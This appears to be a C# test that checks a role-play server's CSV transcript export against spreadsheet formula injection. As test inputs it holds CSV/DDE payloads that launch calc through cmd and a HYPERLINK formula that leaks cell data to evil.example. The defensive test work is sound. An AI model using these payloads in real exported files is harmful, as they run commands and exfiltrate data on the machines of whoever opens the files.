using System.Globalization;
using CsvHelper;

namespace RolePlay.Server.Tests;

/// <summary>A transcript's CSV opens in a spreadsheet as text: nothing a student typed runs as a formula.</summary>
public sealed class CsvExportTests(SharedServer shared) : IClassFixture<SharedServer>
{
    private readonly ServerProcess _server = shared.Server;

    [Fact]
    public async Task Cells_that_would_start_a_formula_are_neutralised_and_verdicts_stay_numbers()
    {
        var session = await _server.CreateSessionAsync("bakery-egg-tart-en");
        var code = session.JoinCode;
        await using var clerk = await Player.JoinAsync(_server, code, "=cmd|' /C calc'!A0", "clerk");
        await using var customer = await Player.JoinAsync(_server, code, "@SUM(A1)", "customer");
        await _server.StartSessionAsync(session.SessionId);
        string[] lines =
        [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
        ];
        for (var i = 0; i < lines.Length; i++)
        {
            await (i % 2 == 0 ? clerk : customer).SayAsync(lines[i]);
        }

        var csv = await _server.Http.GetStringAsync($"/api/groups/{clerk.GroupId}/transcript.csv");
        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        var rows = reader.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();

        Assert.Equal(lines.Length, rows.Count);
        for (var i = 0; i < lines.Length; i++)
        {
            Assert.Equal("'" + lines[i], rows[i]["text"]);
            Assert.Equal("say", rows[i]["kind"]); // the transcript's word, as in its JSON
        }

        var dangerous = new[] { '=', '+', '-', '@', '\t', '\r' };
        foreach (var row in rows)
        {
            foreach (var (column, value) in row)
            {
                var cell = (string)value;
                if (cell.Length > 0 && dangerous.Contains(cell[0]))
                {
                    Assert.Matches(@"^-[0-9]+$", cell); // only a plain negative number may start with '-'
                }
            }

            foreach (var principle in new[] { "customer-first", "prompt-sincere", "off-scene", "affirm", "resolve" })
            {
                Assert.Matches(@"^(-1|0|1)?$", (string)row[principle]);
            }
        }
    }
}
